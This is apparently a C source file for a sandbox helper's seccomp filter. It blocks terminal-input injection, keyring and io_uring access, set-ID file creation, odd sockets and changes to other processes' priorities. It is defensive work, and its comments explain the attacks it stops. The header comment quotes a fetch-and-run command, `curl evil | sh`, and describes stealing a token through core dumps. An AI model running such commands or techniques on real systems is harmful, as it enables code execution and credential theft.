/*
 * seccomp.c: the helper's system-call filter, the last step before exec.
 *
 * Where it stands on security: Landlock governs files, signals and abstract
 * sockets; a few system calls reach past all of that and are filtered here
 * by their arguments, in a classic BPF program of a few dozen instructions
 * (no libseccomp: the whole policy fits on a screen and is read here).
 *
 * - ioctl TIOCSTI pushes a byte into a terminal's input as if typed there,
 *   and TIOCLINUX (on a Linux console) pastes its selection into it: a
 *   command could leave `curl evil | sh` waiting for the user's shell once
 *   hmm has exited. Both fail with EPERM; every other ioctl, so job
 *   control, resizing and the rest of what terminals do, is left alone.
 *   The kernel reads an ioctl's request as 32 bits, so only the low half
 *   of the argument is compared: TIOCSTI with junk in the upper half is
 *   still TIOCSTI.
 * - A system call of another architecture than the helper's own (i386's
 *   int 0x80 on x86_64, arm32 on arm64) has other numbers and would walk
 *   past the checks below: the process is killed. x32 calls (x86_64's
 *   numbers with bit 30 set) fail with ENOSYS, as on kernels built
 *   without x32.
 *
 * - The kernel's keyrings: the command leaves the user's session keyring
 *   (a key in it, a vault token or a Kerberos ticket, is the user's) for
 *   an empty one of its own, then keyctl, add_key and request_key fail
 *   with EPERM (as in Docker's default profile): no key of the user's
 *   (their user keyring, @u, included) is read or changed.
 * - io_uring fails with ENOSYS, as on kernels without it (libuv and others
 *   fall back): files registered with a ring are held with no descriptor
 *   to show for them, so a process could keep the user's terminal where
 *   the init's scan after the command (devices.c) does not look; and a
 *   ring makes sockets without the socket call.
 * - Set-user-ID and set-group-ID bits (attacker's review 5, F8): chmod,
 *   fchmod, fchmodat(2) with either in the mode fail with EPERM, and so
 *   do open, openat and creat that make a file with them, mknod(at);
 *   openat2 (its mode out of the filter's sight) fails with ENOSYS. In
 *   every mode: without the namespaces' read-only mounts (readonly.c),
 *   the command could otherwise make any file its uid owns outside set-ID,
 *   and in every mode one of its own in its writable places (the user's
 *   /tmp without the namespaces) for other users to run.
 * - With --net (none, or hmm's proxy only), sockets of other families
 *   than unix, IPv4 and IPv6 fail with EAFNOSUPPORT (no netlink to change
 *   its namespace's routes, no packet sockets), and raw or packet-type
 *   ones with EPERM (root keeps CAP_NET_RAW for ping; not for these modes).
 *   The network namespace is the barrier; this keeps the kernel's surface
 *   behind it small.
 * - Other processes' limits and priorities (attacker's review 9, F6):
 *   Landlock scopes signals and ptrace, but not prlimit, setpriority,
 *   ioprio_set or the sched_set* calls, which the kernel allows on any
 *   process of the same user. Without the namespaces the user's programs
 *   outside are in sight: the command raised RLIMIT_CORE and lowered
 *   RLIMIT_CPU of one, which dumped its memory (a token) where the command
 *   read it; a hard RLIMIT_CPU kills; PRIO_USER and IOPRIO_WHO_USER renice
 *   all of the user's processes at once. So prlimit64 naming any process
 *   but the caller (ID 0, as glibc's setrlimit and getrlimit pass), and
 *   setpriority and ioprio_set naming a process group or a user, fail
 *   with EPERM in every mode (no build needs them: they reach only its own
 *   processes with the namespaces). Without the PID namespace setpriority,
 *   ioprio_set and sched_setaffinity, sched_setscheduler, sched_setparam
 *   and sched_setattr naming any process but the caller (0: nice, ionice,
 *   taskset, chrt, os.sched_setaffinity(0, ...)) fail too. A thread's own
 *   ID cannot be told from another process's in a filter, so there
 *   pthread_setaffinity_np and pthread_setschedparam fail as well; with the
 *   PID namespace, where no process outside has an ID, they are left alone.
 *   Reading (getpriority, sched_getaffinity, ...) is left alone: /proc
 *   shows the same.
 */

#include "hmm-helper.h"

#ifdef __linux__
#include <stddef.h>
#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/socket.h>

#if defined(__x86_64__)
#define OWN_ARCH AUDIT_ARCH_X86_64
#define X32_SYSCALL_BIT 0x40000000U
#elif defined(__aarch64__)
#define OWN_ARCH AUDIT_ARCH_AARCH64
#else
#error "the seccomp filter knows x86_64 and aarch64 only"
#endif

/* The low 32 bits of argument n, wherever the byte order puts them. */
#if __BYTE_ORDER__ == __ORDER_LITTLE_ENDIAN__
#define ARG_LOW(n) (offsetof(struct seccomp_data, args[n]))
#else
#define ARG_LOW(n) (offsetof(struct seccomp_data, args[n]) + 4)
#endif

#define RET_ERRNO(e) (SECCOMP_RET_ERRNO | ((e) & SECCOMP_RET_DATA))

struct program {
	struct sock_filter insn[160];
	unsigned len;
	int overflow;
};

static void emit(struct program *p, struct sock_filter i)
{
	if (p->len == sizeof p->insn / sizeof *p->insn) {
		p->overflow = 1;
		return;
	}
	p->insn[p->len++] = i;
}

static void ret(struct program *p, uint32_t action)
{
	emit(p, (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, action));
}

/* With the accumulator holding the system call's number: for `nr`, when
 * the low 32 bits of argument `arg` are one of `values`, return `match`,
 * else `otherwise`; any other call falls through with the number kept. */
static void arg_rule(struct program *p, uint32_t nr, unsigned arg, const uint32_t *values,
		     unsigned n, uint32_t match, uint32_t otherwise)
{
	/* Layout: [0] nr? [1] load arg [2..n+1] value? [n+2] otherwise [n+3] match */
	emit(p, (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, nr, 0, (uint8_t)(n + 3)));
	emit(p, (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, ARG_LOW(arg)));
	for (unsigned k = 0; k < n; k++)
		emit(p, (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, values[k],
						     (uint8_t)(n - k), 0));
	ret(p, otherwise);
	ret(p, match);
}

static const uint32_t TERMINAL_INPUT[] = {TIOCSTI, TIOCLINUX};

/* With the accumulator holding the system call's number: socket(2) of a
 * family but unix, IPv4 and IPv6 fails with EAFNOSUPPORT, a raw or packet
 * one with EPERM; other calls fall through with the number kept. */
static void socket_rule(struct program *p)
{
	typedef struct sock_filter I;
	/* [0] socket? [1] family [2..4] known? [5] type [6] mask [7..8] raw?
	 * [9] EAFNOSUPPORT [10] EPERM [11] allow */
	emit(p, (I)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_socket, 0, 11));
	emit(p, (I)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, ARG_LOW(0)));
	emit(p, (I)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AF_UNIX, 2, 0));
	emit(p, (I)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AF_INET, 1, 0));
	emit(p, (I)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AF_INET6, 0, 4));
	emit(p, (I)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, ARG_LOW(1)));
	/* SOCK_NONBLOCK and SOCK_CLOEXEC ride above the type's four bits. */
	emit(p, (I)BPF_STMT(BPF_ALU | BPF_AND | BPF_K, 0xf));
	emit(p, (I)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SOCK_RAW, 2, 0));
	emit(p, (I)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SOCK_PACKET, 1, 2));
	ret(p, RET_ERRNO(EAFNOSUPPORT));
	ret(p, RET_ERRNO(EPERM));
	ret(p, SECCOMP_RET_ALLOW);
}

static const uint32_t UNIX_ONLY[] = {AF_UNIX};

#define SET_ID (S_ISUID | S_ISGID)
#ifndef __O_TMPFILE
#define __O_TMPFILE 020000000
#endif
#ifndef __NR_openat2
#define __NR_openat2 437
#endif
#ifndef __NR_fchmodat2
#define __NR_fchmodat2 452
#endif

/* With the accumulator holding the system call's number: nr, when its
 * argument mode_arg holds a set-user-ID or set-group-ID bit, fails with
 * EPERM (with flags_arg >= 0: only when that argument asks to create a
 * file, else the mode is not read); any other call falls through with the
 * number kept. */
static void set_id_rule(struct program *p, uint32_t nr, unsigned mode_arg, int flags_arg)
{
	typedef struct sock_filter I;
	/* [0] nr? [1..2] creates? [3] mode [4] set-ID bits [5] none? [6] EPERM [7] allow */
	unsigned skip = flags_arg >= 0 ? 7 : 5;
	emit(p, (I)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, nr, 0, (uint8_t)skip));
	if (flags_arg >= 0) {
		emit(p, (I)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, ARG_LOW(flags_arg)));
		emit(p, (I)BPF_JUMP(BPF_JMP | BPF_JSET | BPF_K, O_CREAT | __O_TMPFILE, 0, 4));
	}
	emit(p, (I)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, ARG_LOW(mode_arg)));
	emit(p, (I)BPF_STMT(BPF_ALU | BPF_AND | BPF_K, SET_ID));
	emit(p, (I)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, 0, 1, 0));
	ret(p, RET_ERRNO(EPERM));
	ret(p, SECCOMP_RET_ALLOW);
}

/* With the accumulator holding the system call's number: nr fails with e. */
static void deny(struct program *p, uint32_t nr, int e)
{
	emit(p, (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, nr, 0, 1));
	ret(p, RET_ERRNO(e));
}

/* An argument's low 32 bits, as the kernel reads a pid_t or an int. */
struct arg_is {
	unsigned arg;
	uint32_t value;
};

/* With the accumulator holding the system call's number: nr fails with
 * EPERM unless every argument in `only` has its value; any other call
 * falls through with the number kept. */
static void only_when(struct program *p, uint32_t nr, const struct arg_is *only, unsigned n)
{
	typedef struct sock_filter I;
	/* Layout: [0] nr? [1+2k] load arg k [2+2k] value k? ... [2n+1] allow [2n+2] EPERM */
	emit(p, (I)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, nr, 0, (uint8_t)(2 * n + 2)));
	for (unsigned k = 0; k < n; k++) {
		emit(p, (I)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, ARG_LOW(only[k].arg)));
		emit(p, (I)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, only[k].value, 0, (uint8_t)(2 * (n - k) - 1)));
	}
	ret(p, SECCOMP_RET_ALLOW);
	ret(p, RET_ERRNO(EPERM));
}

#define IOPRIO_WHO_PROCESS 1 /* linux/ioprio.h, not in older kernels' headers */

/* Calls that change another process by its ID, a process group or a user
 * (see the top of this file): with own_pids (a PID namespace) only those
 * that name a group or a user, or set limits, are refused. */
static void other_processes_rules(struct program *p, int own_pids)
{
	static const struct arg_is SELF = {0, 0};
	static const struct arg_is PRIO_SELF[] = {{0, PRIO_PROCESS}, {1, 0}};
	static const struct arg_is IOPRIO_SELF[] = {{0, IOPRIO_WHO_PROCESS}, {1, 0}};
	unsigned by_id = own_pids ? 1 : 2; /* with own_pids, `which` alone */
	only_when(p, __NR_prlimit64, &SELF, 1);
	only_when(p, __NR_setpriority, PRIO_SELF, by_id);
	only_when(p, __NR_ioprio_set, IOPRIO_SELF, by_id);
	if (own_pids)
		return;
	only_when(p, __NR_sched_setaffinity, &SELF, 1);
	only_when(p, __NR_sched_setscheduler, &SELF, 1);
	only_when(p, __NR_sched_setparam, &SELF, 1);
	only_when(p, __NR_sched_setattr, &SELF, 1);
}

#ifndef KEYCTL_JOIN_SESSION_KEYRING
#define KEYCTL_JOIN_SESSION_KEYRING 1
#endif

/* A new, empty session keyring instead of the user's. Where the kernel has
 * no keyrings, or they are refused already, there is nothing to leave. */
static void leave_session_keyring(void)
{
	syscall(__NR_keyctl, KEYCTL_JOIN_SESSION_KEYRING, NULL);
}

int seccomp_confine(int net, int own_pids)
{
	struct program p = {.len = 0};
	emit(&p, (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
					      offsetof(struct seccomp_data, arch)));
	emit(&p, (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, OWN_ARCH, 1, 0));
	ret(&p, SECCOMP_RET_KILL_PROCESS);
	emit(&p, (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS,
					      offsetof(struct seccomp_data, nr)));
#ifdef X32_SYSCALL_BIT
	emit(&p, (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JGE | BPF_K, X32_SYSCALL_BIT, 0, 1));
	ret(&p, RET_ERRNO(ENOSYS));
#endif
	if (net) {
		socket_rule(&p);
		arg_rule(&p, __NR_socketpair, 0, UNIX_ONLY, 1, SECCOMP_RET_ALLOW,
			 RET_ERRNO(EAFNOSUPPORT));
	}
	deny(&p, __NR_io_uring_setup, ENOSYS);
	deny(&p, __NR_keyctl, EPERM);
	deny(&p, __NR_add_key, EPERM);
	deny(&p, __NR_request_key, EPERM);
	/* No set-user-ID or set-group-ID file, made or changed: no build
	 * needs one, and one left where another user (or the user, later)
	 * runs it hands them the command's uid, as root root's. openat2
	 * takes its mode in memory, which a filter cannot read: it fails as
	 * on kernels before 5.6, and callers fall back to openat. */
#ifdef __NR_chmod
	set_id_rule(&p, __NR_chmod, 1, -1);
#endif
	set_id_rule(&p, __NR_fchmod, 1, -1);
	set_id_rule(&p, __NR_fchmodat, 2, -1);
	set_id_rule(&p, __NR_fchmodat2, 2, -1);
#ifdef __NR_creat
	set_id_rule(&p, __NR_creat, 1, -1);
#endif
#ifdef __NR_open
	set_id_rule(&p, __NR_open, 2, 1);
#endif
	set_id_rule(&p, __NR_openat, 3, 2);
#ifdef __NR_mknod
	set_id_rule(&p, __NR_mknod, 1, -1);
#endif
	set_id_rule(&p, __NR_mknodat, 2, -1);
	deny(&p, __NR_openat2, ENOSYS);
	other_processes_rules(&p, own_pids);
	arg_rule(&p, __NR_ioctl, 1, TERMINAL_INPUT,
		 sizeof TERMINAL_INPUT / sizeof *TERMINAL_INPUT, RET_ERRNO(EPERM),
		 SECCOMP_RET_ALLOW);
	ret(&p, SECCOMP_RET_ALLOW);
	if (p.overflow) {
		errno = E2BIG;
		return -1;
	}

	leave_session_keyring();
	struct sock_fprog prog = {.len = (unsigned short)p.len, .filter = p.insn};
	/* Without privileges the kernel takes a filter only under
	 * no_new_privs, which the caller has set (it is wanted anyway). */
	return prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog, 0, 0);
}
#endif /* __linux__ */
